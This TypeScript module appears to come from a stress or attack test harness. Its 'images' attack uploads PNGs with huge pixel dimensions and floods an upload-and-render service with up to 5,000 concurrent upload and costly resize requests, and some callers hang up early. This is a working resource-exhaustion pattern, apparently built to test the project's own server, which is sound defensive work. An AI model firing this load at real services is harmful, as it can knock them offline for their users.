import { type Attack, type Field, rush } from '../attack.ts'
import { type Call, pathTo } from '../call.ts'
import { png } from '../png.ts'

const BOUNDARY = 'a-boundary-of-the-attack'

const formOf = (file: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n`,
    ),
    file,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])

/** Lines of millions of pixels, promises that are not kept, and what is just allowed. */
const makeForms = () => [
  formOf(png(1, 12_000_000)),
  formOf(png(12_000_000, 1)),
  formOf(png(50_000, 50_000, 1)),
  formOf(png(7000, 7000, 10)),
  formOf(png(7000, 7000)),
  formOf(png(16_000, 3000)),
]

const upload = ({ attacker: { code, token } }: Field, body: Buffer): Call => ({
  token,
  path: pathTo('uploadImage', code),
  headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
  body,
})

const pathIn = (text: string): string => /\/files\/[^"?]+/.exec(text)?.[0] ?? '/files/none.png'

/** Another one each time, which has to be made. */
const renderings = ['height=', 'fit=outside&height=4000&width=', 'format=avif&width=1000&height=']

/** Images that take long to look at, and renderings of long ones, some for callers who leave. */
export const images: Attack = {
  name: 'images',
  run: async (field) => {
    const forms = makeForms()
    const long = pathIn((await field.send(upload(field, forms.at(-1) as Buffer))).text)
    // each server has its own files, so half of the renderings find none
    await rush(field, { callers: 6, most: 5_000 }, (n) =>
      field.random.below(2)
        ? upload(field, forms[n % forms.length] as Buffer)
        : {
            path: `${long}?${renderings[n % renderings.length]}${4000 - (n % 2000)}`,
            ...(n % 4 === 0 && { hangUpMs: 100 + field.random.below(400) }),
          },
    )
  },
}
